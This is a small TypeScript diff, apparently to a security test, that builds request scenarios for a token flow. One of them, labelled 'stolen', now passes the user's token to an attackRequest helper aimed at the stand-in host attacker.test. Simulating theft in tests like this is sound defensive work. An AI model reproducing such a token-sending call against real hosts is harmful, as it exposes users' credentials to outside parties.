@@ -62,7 +62,7 @@ function runOf(user: UserInfo, ota: string, requestId: string, binding: string):
   } as const
   const refused = { ...accepted, status: 401, tokenResponseTime: null, code: requestId }
   const stolen = (body: Readonly<Record<string, string>>) => ({
-    ...attackRequest('http://attacker.test/request', body),
+    ...attackRequest('http://attacker.test/request', body, user.token),
     startedAt: at - 10,
     status: 200,
   })
